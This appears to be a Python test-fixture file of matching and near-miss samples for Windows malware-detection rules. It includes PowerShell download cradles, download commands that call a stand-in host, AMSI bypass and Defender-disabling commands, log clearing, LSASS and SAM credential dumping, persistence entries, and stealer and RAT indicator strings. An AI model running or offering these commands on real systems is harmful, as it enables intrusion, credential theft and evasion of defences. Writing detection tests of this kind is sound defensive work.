"""Samples for rules/windows: commands, scripts, shortcuts and program headers, cut in pieces."""

import base64

from tests.rules.formats import cut, noise, pe, shortcut, texts, version_info, wide
from tests.rules.sample import Sample, inert


def encoded(command: str) -> bytes:
    """A command as -EncodedCommand takes it."""
    return base64.b64encode(wide(command))


def task(command: str, arguments: str = "") -> bytes:
    """The definition of a scheduled task in UTF-16."""
    return b"\xff\xfe" + wide(
        '<?xml version="1.0" encoding="UTF-16"?>\r\n<Task version="1.2" '
        'xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">\r\n'
        "  <Actions><Exec>\r\n"
        f"    <Command>{command}</Command>\r\n    <Arguments>{arguments}</Arguments>\r\n"
        "  </Exec></Actions>\r\n</Task>\r\n"
    )


FETCH = "(New-Object Net.Web¦Client).Download¦String('http://198.51.100.7/a')"
HIDDEN = cut(f"power¦shell.exe -NoP -NonI -W Hid¦den -Exec Bypass -C $x={FETCH}")
CRADLE = cut(f"IEX {FETCH}")
SHELLCODE = (
    "[Byte[]¦] $buf = 0x90,0x90\n"
    "$f = $api::Virtual¦Alloc(0, $buf.Length, 0x3000, 0x40)\n"
    "[System.Runtime.Interop¦Services.Marshal]::Copy($buf, 0, $f, $buf.Length)\n"
)
ASSEMBLY = "[Reflection.Assem¦bly]::Load($bytes).Entry¦Point.Invoke($null, (, [string[]] @()))"
STAGE = (
    "$m = New-Object IO.MemoryStream(,[Convert]::From¦Base64String('H4sIAAAA'))\n"
    "$t = (New-Object IO.StreamReader(New-Object IO.Compression.Gzip¦Stream($m, 0))).Read¦ToEnd()\n"
)
AMSI = (cut("Amsi¦ScanBuffer"), cut("Virtual¦Protect"))
DEFENDER_OFF = "Set-Mp¦Preference -Disable¦RealtimeMonitoring $true"
DEFENDER_KEY = (
    'reg add "HKLM\\SOFTWARE\\Policies\\Microsoft\\Windows Def¦ender" '
    "/v Disable¦AntiSpyware /t REG_DWORD /d {} /f"
)
EDR = tuple(
    wide(name)
    for name in (
        "Ms¦MpEng.exe",
        "Sentinel¦Agent.exe",
        "CSFalcon¦Service.exe",
        "Cylance¦Svc.exe",
        "ek¦rn.exe",
        "bdservice¦host.exe",
        "Sav¦Service.exe",
        "av¦p.exe",
    )
)
LSASS_DUMPER = (wide("ls¦ass.exe"), cut("MiniDump¦WriteDump"), wide("SeDebug¦Privilege"))
LSASS_MODULES = (
    wide("C:\\Windows\\System32\\ls¦ass.exe"),
    wide("C:\\Windows\\System32\\ls¦asrv.dll"),
    wide("C:\\Windows\\System32\\wdi¦gest.dll"),
)
DROPPER_JS = (
    "var h = new Active¦XObject('MSXML2.¦XMLHTTP'); var s = new Active¦XObject('ADO¦DB.Stream');\n"
    "h.open('GET', 'http://198.51.100.7/a', false); h.send(); s.Type = 1; s.Open();\n"
    "s.Write(h.responseBody); s.Save¦ToFile('a.bin', 2);\n"
)
HTA = (
    '<html><head><HTA:appli¦cation id="a" show¦InTaskbar="{}"/></head><script>\n'
    "var w = new Active¦XObject('WScript.¦Shell'); w.Run('power¦shell -c $PSVersionTable', 0);\n"
    "</script></html>"
)
SCRIPTLET = (
    '<?XML version="1.0"?><script¦let><regis¦tration progid="A" classid="{{F0001111-0000-0000-'
    '0000-0000FEEDACDC}}"><script><![CDATA[ var r = new Active¦XObject("{}").Run("calc.exe"); ]]>'
    "</script></registration></scriptlet>"
)
SHEET = (
    '<stylesheet xmlns:ms="urn:schemas-microsoft¦-com:xslt" version="1.0"><ms:scr¦ipt '
    'implements-prefix="user" language="JScript"><![CDATA[ var r = new Active¦XObject('
    '"WScript.¦Shell").Run("calc.exe"); ]]></ms:script></stylesheet>'
)
MZ_BASE64 = cut("TVqQAAMA¦AAAEAAAA//8AALgAAAAAAAAAQAAA")
WMI = (
    'instance of __Event¦Filter as $F { Query = "SELECT * FROM __InstanceModificationEvent"; };\n'
    'instance of Command¦LineEventConsumer as $C { Command¦LineTemplate = "{}"; };\n'
    "instance of __FilterTo¦ConsumerBinding { Filter = $F; Consumer = $C; };\n"
)
IFEO = (
    "[HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\"
    'Image File Exec¦ution Options\\{}]\r\n"Debug¦ger"="C:\\\\Windows\\\\System32\\\\cm¦d.exe"\r\n'
)
RUN_KEY = (
    "[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\Current¦Version\\Run]\r\n"
    '"Updater"="msh¦ta.exe {}"\r\n'
)
HOLLOW = tuple(
    cut(name)
    for name in (
        "NtUnmap¦ViewOfSection",
        "WriteProcess¦Memory",
        "SetThread¦Context",
        "Resume¦Thread",
        "CreateProc¦essW",
    )
)
REMOTE = (cut("WriteProcess¦Memory"), cut("Virtual¦AllocEx"), cut("CreateRemote¦Thread"))
DOS_STUB = cut("This program cannot¦ be run in DOS mode")
DOTNET_LOADER = tuple(
    cut(name)
    for name in (
        "msco¦ree.dll",
        "System.Ref¦lection",
        "get_Entry¦Point",
        "Inv¦oke",
        "GetManifest¦ResourceStream",
        "Create¦Decryptor",
    )
)
STEALER = tuple(
    cut(text)
    for text in (
        "Login¦ Data",
        "Local¦ State",
        "encrypted¦_key",
        "%APPDATA%\\Exodus\\exo¦dus.wallet",
        "%APPDATA%\\Elec¦trum\\wallets",
        "nkbihfbeogaeaoeh¦lefnkodbefgpgknn",
        "bfnaelmomeimhlp¦mgjnjophhpkkoljpa",
    )
)
PASSWORD_QUERY = cut(
    "con.execute('SELECT origin_url, username_value, pass¦word_value FROM log¦ins') # Login¦ Data\n"
)
KEYLOGGER = tuple(
    cut(text)
    for text in (
        "GetAsync¦KeyState",
        "GetForeground¦Window",
        "GetWindow¦TextW",
        "[Back¦space]",
        "[En¦ter]",
        "[Caps¦Lock]",
        "[E¦sc]",
        "[Page¦Up]",
    )
)
ASYNC_TEXTS = (
    wide("masterKey can not¦ be null or empty."),
    wide('/c schtasks /create /f¦ /sc onlogon /rl highest /tn "'),
    wide("\\nuR\\noisreVtner¦ruC\\swodniW\\tfosorciM\\erawtfoS"),
)
ASYNC_NAME = texts(cut("Initialize¦Settings"))
QUASAR = tuple(
    cut(name)
    for name in (
        "GetKeylogger¦LogsDirectory",
        "DoShellExecute¦Response",
        "DoStartup¦ItemAdd",
        "DoVisit¦Website",
        "ReverseProxy¦Connect",
    )
)
NJRAT = (
    wide("|'|¦'|"),
    wide('netsh firewall add¦ allowedprogram "'),
    wide("SEE_MASK_NOZONE¦CHECKS"),
    wide("[T¦AP]"),
)
REMCOS = (
    cut("Rem¦cos restarted by watchdog!"),
    cut("Mutex_Rem¦Watchdog"),
    cut("[Cleared browsers¦ logins and cookies.]"),
)
NANOCORE = (
    cut("NanoCore.¦ClientPluginHost"),
    cut("IClient¦NetworkHost"),
    cut("IClientLog¦gingHost"),
)
XWORM = tuple(
    wide(name)
    for name in (
        "PCShut¦down",
        "PCRe¦start",
        "PCLog¦off",
        "StartD¦Dos",
        "sendPl¦ugin",
        "Offline¦Get",
    )
)
LETTERS = "%q:~{},1%"

SAMPLES: tuple[Sample, ...] = (
    Sample(
        "Windows_PowerShell_EncodedDownload",
        matching=(
            inert("powershell -enc ", encoded(f"IEX {FETCH}")),
            inert("powershell -e ", encoded(f" IEX {FETCH}")).decode().encode("utf-16-le"),
        ),
        near_miss=(inert("powershell -enc ", encoded(f"$page = {FETCH}")),),
    ),
    Sample(
        "Windows_PowerShell_HiddenDownload",
        matching=(HIDDEN, HIDDEN.decode().encode("utf-16-le")),
        near_miss=(HIDDEN.replace(cut("Hid¦den"), b"Normal"),),
    ),
    Sample(
        "Windows_PowerShell_DownloadCradle",
        matching=(CRADLE, cut(f"{FETCH} | IEX")),
        near_miss=(
            CRADLE.replace(b"IEX", b"$x ="),
            CRADLE.replace(
                b"http://198.51.100.7/a", b"https://community.chocolatey.org/install.ps1"
            ),
        ),
    ),
    Sample(
        "Windows_PowerShell_AmsiBypass",
        matching=(
            cut(
                "[Ref].Assembly.GetType('System.Management.Auto¦mation.Amsi¦Utils')"
                ".GetField('amsi¦InitFailed','Non¦Public,Static').SetValue($null,$true)"
            ),
            cut("$u = 'System.Management.Automation.A' + 'msi¦Utils'"),
            inert(
                "$n = [Text.Encoding]::UTF8.GetString('", base64.b64encode(b"amsiInitFailed"), "')"
            ),
        ),
        near_miss=(
            # The names as metadata of System.Management.Automation.dll
            cut("\0System.Management.Auto¦mation\0Amsi¦Utils\0amsi¦InitFailed\0"),
        ),
    ),
    Sample(
        "Windows_PowerShell_CompressedStage",
        matching=(cut(STAGE + "I¦EX $t"), cut(STAGE + "$t | Invoke¦-Expression")),
        near_miss=(cut(STAGE + "Write-Output $t"),),
    ),
    Sample(
        "Windows_PowerShell_AssemblyFromMemory",
        matching=(
            cut(f"$bytes = [Convert]::From¦Base64String($text)\n{ASSEMBLY}"),
            cut(f"$bytes[$i] = $bytes[$i] -b¦xor 0x5A\n{ASSEMBLY}"),
        ),
        near_miss=(
            cut(f"$bytes = [IO.File]::ReadAllBytes($path)\n{ASSEMBLY}"),
            cut(
                "$bytes = [Convert]::From¦Base64String($text)\n[Reflection.Assem¦bly]::Load($bytes)"
            ),
        ),
    ),
    Sample(
        "Windows_PowerShell_ShellcodeRunner",
        matching=(
            cut(SHELLCODE + "$api::Create¦Thread(0, 0, $f, 0, 0, 0)"),
            cut(SHELLCODE + "[Marshal]::GetDelegate¦ForFunctionPointer($f, $t).Invoke()"),
        ),
        near_miss=(cut(SHELLCODE + "$api::VirtualFree($f, 0, 0x8000)"),),
    ),
    Sample(
        "Windows_Amsi_MemoryPatch",
        matching=(
            pe(*AMSI, bytes.fromhex("b857000780c3")),
            b"\n".join((*AMSI, cut("$p = 0xB8, 0x57, 0x00,¦ 0x07, 0x80, 0xC3"))),
            b"\n".join((*AMSI, cut("byte[] p = {184, 87, 0,¦ 7, 128, 195};"))),
        ),
        near_miss=(pe(*AMSI, bytes.fromhex("b85700078090")),),  # loads the number, does not return
    ),
    Sample(
        "Windows_Etw_AmsiTampering",
        matching=(pe(wide("EtwEvent¦Write"), *AMSI),),
        near_miss=(pe(wide("EventWriteTransfer"), *AMSI), pe(wide("EtwEvent¦Write"), AMSI[1])),
    ),
    Sample(
        "Windows_Defender_Exclusion",
        matching=(
            cut("power¦shell Add-Mp¦Preference -Exclusion¦Path 'C:\\ProgramData'"),
            wide(
                'reg add "HKLM\\SOFTWARE\\Microsoft\\Windows Def¦ender\\Excl¦usions\\Paths" '
                "/v C:\\ /d 0 /f"
            ),
        ),
        near_miss=(cut("Get-Mp¦Preference | Select-Object Exclusion¦Path"),),
    ),
    Sample(
        "Windows_Defender_Disabled",
        matching=(
            cut(f"{DEFENDER_OFF}\r\nsc stop Win¦Defend\r\n"),
            cut(f"{DEFENDER_KEY.format(1)}\r\n{DEFENDER_KEY.format(1)}\r\n"),
            wide(f"{DEFENDER_OFF} & MpCmd¦Run.exe -Remove¦Definitions -All"),
        ),
        near_miss=(
            cut(f"{DEFENDER_OFF}\r\nsc query Win¦Defend\r\n"),
            cut(f"{DEFENDER_KEY.format(0)}\r\n{DEFENDER_KEY.format(0)}\r\n"),
        ),
    ),
    Sample(
        "Windows_Logs_Cleared",
        matching=(
            cut("wevt¦util cl Security\r\nwevt¦util.exe cl System\r\n"),
            cut('for /F "tokens=*" %1 in (\'wevt¦util el\') DO wevt¦util cl "%1"'),
            cut("wevt¦util cl Security & fsu¦til usn delete¦journal /D C:"),
        ),
        near_miss=(
            cut("wevt¦util qe Security\r\nwevt¦util.exe qe System\r\n"),
            cut("wevt¦util cl Security\r\n"),
        ),
    ),
    Sample(
        "Windows_Uac_Bypass",
        matching=(
            cut(
                "New-Item HKCU:\\Software\\Classes\\ms-set¦tings\\Shell\\Open\\command -Force\n"
                "Start-Process C:\\Windows\\System32\\fod¦helper.exe"
            ),
            pe(wide("Elevation:Administrator!new:{3E5FC7F9-9A51¦-4367-9063-A120244FBEC7}")),
        ),
        near_miss=(
            cut(
                "New-Item HKCU:\\Software\\Classes\\txtfile\\Shell\\Open\\command -Force\n"
                "Start-Process C:\\Windows\\System32\\fod¦helper.exe"
            ),
        ),
    ),
    Sample(
        "Windows_Evasion_SecurityProcessKiller",
        matching=(pe(cut("DeviceIo¦Control"), *EDR),),
        near_miss=(pe(*EDR), pe(cut("DeviceIo¦Control"), *EDR[:6])),
    ),
    Sample(
        "Windows_Lsass_ComsvcsDump",
        matching=(
            cut("rundll32.exe C:\\windows\\System32\\com¦svcs.dll, Mini¦Dump 624 C:\\a.dmp full"),
            wide("rundll32 com¦svcs.dll,#¦24 624 a.dmp full"),
        ),
        near_miss=(
            cut("rundll32.exe C:\\windows\\System32\\com¦svcs.dll, Other 624 C:\\a.dmp full"),
        ),
    ),
    Sample(
        "Windows_Lsass_Dumper",
        matching=(pe(*LSASS_DUMPER), pe(*LSASS_DUMPER, magic=0x10B)),
        near_miss=(
            pe(*LSASS_DUMPER, certificate=True),
            pe(*LSASS_DUMPER[1:]),
            pe(*LSASS_DUMPER, version_info("ProductName", "Microsoft® Windows® Operating System")),
        ),
    ),
    Sample(
        "Windows_Lsass_DumpFile",
        matching=(inert("MDMP\x93", noise(64), *LSASS_MODULES),),
        near_miss=(
            inert("MDMP\x93", noise(64), *LSASS_MODULES[1:]),  # a crash of another program
            inert("log: ", *LSASS_MODULES),
        ),
    ),
    Sample(
        "Windows_Credentials_HiveCopy",
        matching=(
            cut("reg save hk¦lm\\sam C:\\Windows\\Temp\\s"),
            wide('ntds¦util "ac i ntds" "ifm" "cre¦ate full C:\\t" q q'),
            cut("copy \\\\?\\Device\\Harddisk¦VolumeShadowCopy2\\Windows\\NT¦DS\\ntds.dit ."),
        ),
        near_miss=(
            cut("reg query hk¦lm\\sam"),
            cut("reg save hk¦lm\\software C:\\backup\\s"),
            cut("moved to \\\\?\\Device\\Harddisk¦VolumeShadowCopy2\\Windows\\NT¦DS\\ntds.dit"),
        ),
    ),
    Sample(
        "Windows_Script_DownloadAndRun",
        matching=(cut(DROPPER_JS + "new Active¦XObject('WScript.¦Shell').Run('a.bin');"),),
        near_miss=(cut(DROPPER_JS + "WScript.Echo('saved');"),),
        filename="sample.js",
    ),
    Sample(
        "Windows_Hta_HiddenCommand",
        matching=(cut(HTA.format("no")),),
        near_miss=(cut(HTA.format("yes")),),
        filename="sample.hta",
    ),
    Sample(
        "Windows_Script_EncodedExecutable",
        matching=(
            inert("echo ", MZ_BASE64, cut(" > a.txt\r\ncert¦util -decode a.txt a.dll\r\n")),
            inert(
                "-----BEGIN CERT", "IFICATE-----\r\n", MZ_BASE64, "\r\n-----END CERTIFICATE-----"
            ),
            cut("$h = '4D5A900003000000¦04000000FFFF0000'; [IO.File]::Write¦AllBytes($p, $b)"),
        ),
        near_miss=(
            inert('<img src="data:;base64,', MZ_BASE64, '">'),
            cut("-----BEGIN CERT¦IFICATE-----\r\nMIIDdzCCAl+gAwIBAgIEAgAAuTAN\r\n"),
        ),
    ),
    Sample(
        "Windows_Scriptlet_ComShell",
        matching=(cut(SCRIPTLET.format("WScript.¦Shell")), cut(SHEET)),
        near_miss=(cut(SCRIPTLET.format("Scripting.Dictionary")),),
        filename="sample.sct",
    ),
    Sample(
        "Windows_Script_Encoded",
        matching=(cut("#@¦~^DgAAAA==\\ko$K6,JCV^GJqAQAAA==^#¦~@"),),
        near_miss=(cut("#@¦~^DgAAAA==\\ko$K6,JCV^GJqAQAAA=="),),
        filename="sample.vbe",
    ),
    Sample(
        "Windows_Shortcut_ScriptCommand",
        matching=(
            shortcut(wide("..\\power¦shell.exe"), wide(" -w hid¦den -c Get-Date")),
            shortcut(wide("cm¦d.exe"), wide("/c msh¦ta https¦://198.51.100.7/a.hta")),
            shortcut(
                wide("power¦shell.exe"), inert(" -enc ", encoded("Get-Date -Format yyyyMMdd"))
            ),
        ),
        near_miss=(
            shortcut(wide("..\\power¦shell.exe"), wide(" -NoExit -c Get-Date")),
            wide("..\\power¦shell.exe -w hid¦den -c Get-Date"),
        ),
        filename="sample.lnk",
    ),
    Sample(
        "Windows_Shortcut_EmbeddedPayload",
        matching=(
            shortcut(wide("cmd"), DOS_STUB, size=64 << 10),
            shortcut(wide("cmd"), cut("%PD¦F-1.7"), size=64 << 10),
        ),
        near_miss=(shortcut(wide("cmd"), DOS_STUB), shortcut(wide("cmd"), size=64 << 10)),
        filename="sample.lnk",
    ),
    Sample(
        "Windows_Shortcut_RemoteWebFolder",
        matching=(
            cut("[Internet¦Shortcut]\r\nURL=file://198.51.100.7@80\\Dav¦WWWRoot\\a.pdf.lnk\r\n"),
            cut("[Internet¦Shortcut]\r\nURL=file://198.51.100.7/share/in¦voice.js\r\n"),
        ),
        near_miss=(
            cut("[Internet¦Shortcut]\r\nURL=https://198.51.100.7/share/invoice.js\r\n"),
            cut("[Internet¦Shortcut]\r\nURL=file://server/share/invoice.pdf\r\n"),
            cut("[Internet¦Shortcut]\r\nIconFile=\\\\server\\2026\\invoice.ico\r\n"),
        ),
        filename="sample.url",
    ),
    Sample(
        "Windows_Batch_LivingOffTheLand",
        matching=(
            cut("cert¦util -urlcache -split -f http¦://198.51.100.7/a.exe a.exe"),
            wide("bits¦admin /transfer j /priority high http¦://198.51.100.7/a C:\\a"),
            cut("regsvr¦32 /s /n /u /i:http¦://198.51.100.7/a.sct scrobj.dll"),
            cut('msh¦ta vbscript:Close(Execute("..."))'),
            cut('wm¦ic os get /format:"https¦://198.51.100.7/a.xsl"'),
        ),
        near_miss=(
            cut("cert¦util -verify -urlfetch http¦://198.51.100.7/a.crt"),
            cut("regsvr¦32 /s /n /u /i:user a.dll"),
        ),
        filename="sample.bat",
    ),
    Sample(
        "Windows_Batch_VariableObfuscation",
        matching=(
            cut('@echo off\r\nset "q=abcdefghij"\r\n' + "".join(map(LETTERS.format, range(44)))),
        ),
        near_miss=(
            cut('@echo off\r\nset "q=abcdefghij"\r\n' + "".join(map(LETTERS.format, range(9)))),
        ),
        filename="sample.bat",
    ),
    Sample(
        "Windows_ScheduledTask_ScriptCommand",
        matching=(
            task("power¦shell.exe", f"-NoP -enc {encoded('Get-Date -Format yyyyMMdd').decode()}"),
            task("C:\\Windows\\System32\\msh¦ta.exe", "https¦://198.51.100.7/a"),
        ),
        near_miss=(
            task("power¦shell.exe", "-NoP -File C:\\Tools\\backup.ps1"),
            task("C:\\Tools\\backup.exe", "https¦://198.51.100.7/a"),
        ),
    ),
    Sample(
        "Windows_ScheduledTask_OddPlace",
        matching=(task("C:\\Users\\Pub¦lic\\svc.exe"), task("%TE¦MP%\\a.exe")),
        near_miss=(task("C:\\Program Files\\Vendor\\svc.exe"),),
    ),
    Sample(
        "Windows_Service_AttackCommand",
        matching=(
            cut("cm¦d.exe /c ec¦ho 3fb1a8 > \\\\.\\pi¦pe\\3fb1a8"),
            wide("%COM¦SPEC% /b /c start /b /min power¦shell -nop -w hid¦den"),
        ),
        near_miss=(cut("cm¦d.exe /c ec¦ho 3fb1a8 > C:\\logs\\3fb1a8"),),
        filename="",
    ),
    Sample(
        "Windows_Wmi_EventSubscription",
        matching=(cut(WMI.replace("{}", "power¦shell.exe -File C:\\\\a.ps1")),),
        near_miss=(cut(WMI.replace("{}", "C:\\\\Tools\\\\inventory.exe")),),
        filename="sample.mof",
    ),
    Sample(
        "Windows_Accessibility_Backdoor",
        matching=(
            cut(IFEO.format("set¦hc.exe")),
            cut("copy /Y C:\\Windows\\System32\\cm¦d.exe C:\\Windows\\System32\\util¦man.exe"),
        ),
        near_miss=(
            cut(IFEO.format("notepad.exe")),
            cut("copy /Y C:\\Windows\\System32\\cm¦d.exe D:\\backup\\cm¦d.exe"),
        ),
        filename="sample.reg",
    ),
    Sample(
        "Windows_RunKey_ScriptCommand",
        matching=(
            cut(RUN_KEY.format("java¦script:a=1;close()")),
            cut(RUN_KEY.format("https¦://a.test/a")),
        ),
        near_miss=(cut(RUN_KEY.format("C:\\\\Tools\\\\menu.hta")),),
        filename="sample.reg",
    ),
    Sample(
        "Windows_Pe_RemoteThreadImports",
        matching=(pe(*REMOTE), pe(*REMOTE, magic=0x10B)),
        near_miss=(pe(*REMOTE, certificate=True), pe(*REMOTE[:2])),
        filename="sample.exe",
    ),
    Sample(
        "Windows_Pe_ProcessHollowing",
        matching=(pe(*HOLLOW, noise(64 << 10)),),
        near_miss=(pe(*HOLLOW, b" " * (64 << 10)), pe(*HOLLOW[1:], noise(64 << 10))),
        filename="sample.exe",
    ),
    Sample(
        "Windows_Pe_Packed",
        matching=(pe(section=b"UPX0"), pe(section=b".vmp0"), pe(section=b".themida")),
        near_miss=(pe(section=b".text"), b"#" + pe(section=b"UPX0")),
        filename="sample.exe",
    ),
    Sample(
        "Windows_Pe_XorEncoded",
        matching=(noise(64) + bytes(byte ^ 0x5A for byte in DOS_STUB),),
        near_miss=(noise(64) + DOS_STUB, noise(64) + bytes(byte ^ 0x5A for byte in DOS_STUB[:20])),
    ),
    Sample(
        "Windows_Pe_ReflectiveLoader",
        matching=(pe(cut("Reflective¦Loader")), pe(cut("?Reflective¦Loader@@YAKPAX@Z"))),
        near_miss=(pe(cut("see Reflective¦Loader.c")), cut("\0Reflective¦Loader\0")),
        filename="sample.dll",
    ),
    Sample(
        "Windows_Pe_SystemNameWithoutMicrosoft",
        matching=(pe(version_info("CompanyName", "Example")),),
        near_miss=(
            pe(version_info("CompanyName", "Microsoft Corporation")),
            pe(b"Wine builtin DLL"),
        ),
        filename="SvcHost.exe",
    ),
    Sample(
        "Windows_Pe_SystemNameWithoutMicrosoft",
        matching=(pe(version_info("CompanyName", "Example")),),
        near_miss=(pe(version_info("CompanyName", "Example")),),
        filename="lsass.exe",
        near_miss_filename="lsass-viewer.exe",
    ),
    Sample(
        "Windows_Pe_DoubleExtension",
        matching=(pe(),),
        near_miss=(pe(),),
        filename="invoice.pdf      .exe",
        near_miss_filename="invoice-pdf-1.2.exe",
    ),
    Sample(
        "Windows_Pe_DoubleExtension",
        matching=(pe(),),
        near_miss=(b"a text file",),
        filename="holiday.JPG.scr",
    ),
    Sample(
        "Windows_File_RightToLeftOverride",
        matching=(pe(), shortcut()),
        near_miss=(pe(), shortcut()),
        filename="holiday\u202egpj.exe",
        near_miss_filename="holiday\u200egpj.exe",  # a mark that turns nothing around
    ),
    Sample(
        "Windows_Dotnet_EncryptedLoader",
        matching=(pe(*DOTNET_LOADER, noise(64 << 10)),),
        near_miss=(
            pe(*DOTNET_LOADER, b" " * (64 << 10)),
            pe(*DOTNET_LOADER[:-1], noise(64 << 10)),
        ),
        filename="sample.exe",
    ),
    Sample(
        "Windows_Stealer_BrowsersAndWallets",
        matching=(pe(*STEALER), b"\n".join(STEALER)),
        near_miss=(pe(*STEALER[:-1]), pe(*STEALER[1:])),
    ),
    Sample(
        "Windows_Stealer_BrowserPasswords",
        matching=(PASSWORD_QUERY + cut("win32crypt.CryptUnprotect¦Data(value)"),),
        near_miss=(PASSWORD_QUERY + b"print(value)",),
        filename="sample.py",
    ),
    Sample(
        "Windows_Keylogger_KeyNames",
        matching=(pe(*KEYLOGGER),),
        near_miss=(pe(*KEYLOGGER[:-1]), pe(*KEYLOGGER[1:])),
        filename="sample.exe",
    ),
    Sample(
        "Windows_Rat_AsyncRat",
        matching=(
            inert(ASYNC_NAME, *ASYNC_TEXTS),
            wide("AsyncMutex_6SI8¦OkPnk"),
        ),
        near_miss=(inert(*ASYNC_TEXTS), inert(ASYNC_NAME, *ASYNC_TEXTS[:2])),
        filename="",
    ),
    Sample(
        "Windows_Rat_Quasar",
        matching=(texts(*QUASAR), texts(cut("Quasar.¦Client.IO"), *QUASAR[:2])),
        near_miss=(
            texts(*QUASAR[:4]),
            texts(cut("Quasar.¦Client.IO"), QUASAR[0]),
            b"\n".join(QUASAR),  # a page that lists them
        ),
        filename="",
    ),
    Sample(
        "Windows_Rat_NjRat",
        matching=(b"\0\0".join(NJRAT),),
        near_miss=(b"\0\0".join(NJRAT[:3]),),
        filename="",
    ),
    Sample(
        "Windows_Rat_Remcos",
        matching=(texts(*REMCOS),),
        near_miss=(texts(*REMCOS[:2]),),
        filename="",
    ),
    Sample(
        "Windows_Rat_NanoCore",
        matching=(texts(*NANOCORE),),
        near_miss=(texts(*NANOCORE[1:]), texts(*NANOCORE[:2]), b"\n".join(NANOCORE)),
        filename="",
    ),
    Sample(
        "Windows_Rat_XWorm",
        matching=(b"\0\0\0".join(XWORM), b"\0\0\0".join((wide("<Xwo¦rmmm>"), *XWORM[:3]))),
        near_miss=(b"\0\0\0".join(XWORM[:5]),),
        filename="",
    ),
)
